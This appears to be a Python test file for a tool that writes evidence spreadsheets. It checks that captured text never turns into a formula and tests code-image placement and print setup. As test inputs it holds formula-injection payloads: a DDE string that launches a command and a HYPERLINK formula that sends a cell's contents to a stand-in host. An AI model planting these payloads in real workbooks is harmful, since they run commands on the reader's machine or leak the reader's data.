"""Workbooks hold what was captured as text: never a formula, whatever it begins with; codes are pictures a telephone reads."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.worksheet.worksheet import Worksheet

from evidence import codes, workbook

ROOT = Path(__file__).parents[2]
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "＝", "＋", "－", "＠", "\ufeff=", " =", "\u00a0=", "'=", '"=')
DDE = "cmd|'/c calc'!A1"
PAYLOADS = ("1+1", f'DDE("cmd";"/c calc")&{DDE}', 'HYPERLINK("http://x/?"&A1,"点我")', "{1+1}", "SUM(A1:A9)", "")
CODE = "quzheng:2021Q1-0001?bundle=quzheng-0123456789ab&manifest-sha256=" + "0a" * 32


def opened(path: Path) -> Worksheet:
    sheet = openpyxl.load_workbook(path).active
    assert isinstance(sheet, Worksheet)
    return sheet


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(
        st.one_of(
            st.text(max_size=40),
            st.builds("".join, st.tuples(st.sampled_from(BEGINNINGS), st.sampled_from(PAYLOADS), st.text(max_size=8))),
        ),
        min_size=3,
        max_size=3,
    )
)
def test_no_text_becomes_a_formula_wherever_it_stands(tmp_path: Path, texts: list[str]) -> None:
    path = tmp_path / "t.xlsx"
    title, heading, value = texts
    workbook.write(path, (heading,), [(value,)], title=title, above=(value,), codes=(CODE,))
    with zipfile.ZipFile(path) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    sheets = b"".join(data for name, data in parts.items() if name.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheets and b"<f " not in sheets
    assert not any("externalLink" in name or "hyperlink" in name.lower() for name in parts)
    cells = [cell for row in opened(path).iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s"} and all(cell.hyperlink is None for cell in cells)


@pytest.mark.parametrize("begin", [one for one in BEGINNINGS if one not in ("\n", "'=", '"=')])
def test_what_begins_like_a_formula_is_quoted_so_that_it_stays_text_when_saved_again(
    tmp_path: Path, begin: str
) -> None:
    path = tmp_path / "t.xlsx"
    workbook.write(path, ("a",), [(f"{begin}1+1",)])
    cell = opened(path).cell(2, 1)
    assert cell.quotePrefix and cell.number_format == "@"


def test_what_is_written_is_what_is_read_back(tmp_path: Path) -> None:
    rows = [("1", "甲县\n（0000000001）", "=1+1", ""), ("2", "乙县", "０１", "a\tb")]
    path = tmp_path / "t.xlsx"
    workbook.write(path, ("序号", "名称", "值", "空"), rows, above=("题目",))
    read = [tuple(cell or "" for cell in row) for row in opened(path).iter_rows(values_only=True)]
    assert read == [("题目", "", "", ""), ("序号", "名称", "值", "空"), *rows]


def test_each_row_with_a_code_shows_it_in_a_column_of_its_own(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    workbook.write(path, ("证据",), [("Q-1",), ("Q-2",), ("Q-3\n" * 12,)], codes=(CODE, None, CODE + "1"))
    sheet = opened(path)
    assert [cell.value for cell in sheet[1]] == ["证据", workbook.CODES]
    places = {image.anchor._from.row: image._data() for image in sheet._images}
    assert {image.anchor._from.col for image in sheet._images} == {1}
    assert places == {1: codes.picture(CODE), 3: codes.picture(CODE + "1")}
    assert len(codes.picture(CODE)) < 2_000
    heights = [sheet.row_dimensions[n].height for n in (2, 3, 4)]
    assert heights[0] >= workbook.CODE_POINTS and heights[1] is None and heights[2] > 12 * 14, "text and code both fit"


def test_without_codes_there_is_no_column_for_them(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    workbook.write(path, ("a",), [("1",)], codes=(None,))
    assert [cell.value for cell in opened(path)[1]] == ["a"]


def test_it_prints_on_sheets_as_wide_as_the_table_with_its_heading_on_each(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    workbook.write(path, ("a", "b"), [("1", "2")], above=("题目",), widths=(1, 3))
    sheet = opened(path)
    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == ("9", "landscape") or (
        int(sheet.page_setup.paperSize),
        sheet.page_setup.orientation,
    ) == (9, "landscape")
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.print_title_rows == "$2:$2"
    a, b = (sheet.column_dimensions[letter].width for letter in "AB")
    assert b == pytest.approx(3 * a)


def test_nothing_else_in_the_program_writes_sheets() -> None:
    writes = re.compile(
        r"openpyxl\.Workbook|from openpyxl import .*Workbook|csv\.(?:writer|DictWriter)|xlsxwriter|xlwt"
    )
    sources = [one for part in ("evidence", "collector", "flows") for one in (ROOT / part).rglob("*.py")]
    found = [one.relative_to(ROOT).as_posix() for one in sources if writes.search(one.read_text("utf-8"))]
    assert found == ["evidence/workbook.py"]
